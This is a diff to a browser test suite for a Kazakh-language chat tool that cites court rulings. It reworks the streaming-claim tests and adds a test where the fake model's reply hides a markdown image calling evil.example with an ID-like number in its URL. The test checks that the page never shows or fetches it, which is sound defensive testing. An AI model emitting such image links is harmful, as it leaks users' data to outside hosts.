@@ -22,7 +22,6 @@ pytestmark = pytest.mark.browser
 DEADLINE = ("Шағым он күннің ішінде беріледі.", "3", "он күннің ішінде аудандық сотқа беріледі")
 RATE = ("Атқарушылық санкция он пайыз.", "12", "Атқарушылық санкция он пайыз мөлшерінде өндіріледі")
 LIE = ("Шағым отыз күннің ішінде беріледі.", "3", DEADLINE[2])
-FIRST, REST = said(DEADLINE)[:-2], ", " + said(RATE).removeprefix('{"claims": [')
 
 
 class Speaking(FakeAssistant):
@@ -44,6 +43,7 @@ def _page(browser: Any, *steps: Step) -> Iterator[tuple[Visit, Script]]:
             visit = Visit(browser, address)
             yield visit, script
             visit.context.close()
+            assert visit.outside == []
 
 
 def _claims(visit: Visit) -> list[str]:
@@ -52,34 +52,37 @@ def _claims(visit: Visit) -> list[str]:
 
 
 @pytest.fixture
-def slow(browser: Any) -> Iterator[tuple[Visit, Script]]:
-    """One claim at once, the second after two seconds."""
-    yield from _page(browser, Step([event(FIRST), 2.0, event(REST, "stop")]))
-
-
-@pytest.fixture
 def hanging(browser: Any) -> Iterator[tuple[Visit, Script]]:
     """One claim, then nothing more."""
-    yield from _page(browser, Step([event(FIRST), 30.0]))
+    yield from _page(browser, Step([event(said(DEADLINE)[:-2]), 30.0]))
 
 
-def test_claims_come_one_after_another_each_with_its_citation(slow: tuple[Visit, Script]) -> None:
-    visit, _ = slow
+def test_a_claim_is_shown_with_its_citation_while_the_rest_is_still_coming(
+    hanging: tuple[Visit, Script],
+) -> None:
+    visit, script = hanging
     page = visit.page
     visit.ask("екеуі туралы", wait=False)
     page.wait_for_selector("[data-busy] .words")
     assert _claims(visit) == [DEADLINE[0]]
     assert page.inner_text(".waiting") == say("chat.checking")
-    page.click("[data-busy] a.cite")  # its place can be read while the rest is still coming
+    page.click("[data-busy] a.cite")
     page.wait_for_selector("#panel mark.quote")
     assert page.inner_text("#panel mark.quote") == DEADLINE[2]
-    page.wait_for_selector(".turn[data-turn]")
-    assert _claims(visit) == [DEADLINE[0], RATE[0]]
-    assert page.locator(".turn a.cite").all_inner_texts() == ["3-тармақ", "12-тармақ"]
-    assert page.locator(".waiting").count() == 0
-    page.click("#reading label:has-text('Толық')")
-    page.wait_for_selector("blockquote.quote >> nth=1")
-    assert page.locator("blockquote.quote p").all_inner_texts() == [DEADLINE[2], RATE[2]]
+    assert not script.hung_up.is_set()
+
+
+def test_each_claim_stands_with_its_citation_and_in_full_with_its_quote(browser: Any) -> None:
+    for visit, _ in _page(browser, says(said(DEADLINE, RATE))):
+        page = visit.page
+        visit.ask("екеуі туралы")
+        assert _claims(visit) == [DEADLINE[0], RATE[0]]
+        assert page.locator(".turn a.cite").all_inner_texts() == ["3-тармақ", "12-тармақ"]
+        assert page.locator(".waiting").count() == 0
+        page.click("#reading label:has-text('Толық')")
+        page.wait_for_selector("blockquote.quote >> nth=1")
+        quotes = page.locator("blockquote.quote p").all_inner_texts()
+        assert quotes == [DEADLINE[2], RATE[2]]
 
 
 def test_a_claim_that_the_ruling_does_not_hold_is_left_out_and_told(browser: Any) -> None:
@@ -91,6 +94,16 @@ def test_a_claim_that_the_ruling_does_not_hold_is_left_out_and_told(browser: Any
             assert told == render("llm.withheld", count=1)
             visit.page.reload()
             visit.page.wait_for_selector(".turn[data-turn]")
+
+
+def test_an_image_in_a_model_s_words_is_neither_shown_nor_fetched(browser: Any) -> None:
+    spy = "![](https://evil.example/p.png?q=880101300123)"
+    steps = says(said((f"{DEADLINE[0]} {spy}", *DEADLINE[1:]), RATE))
+    for visit, _ in _page(browser, steps):
+        visit.ask("екеуі")
+        assert _claims(visit) == [RATE[0]]
+        assert visit.page.locator("#conversation img").count() == 0
+        assert "evil.example" not in visit.page.inner_text("#conversation")
 
 
 def test_stop_hangs_up_on_the_model_and_keeps_what_was_confirmed(
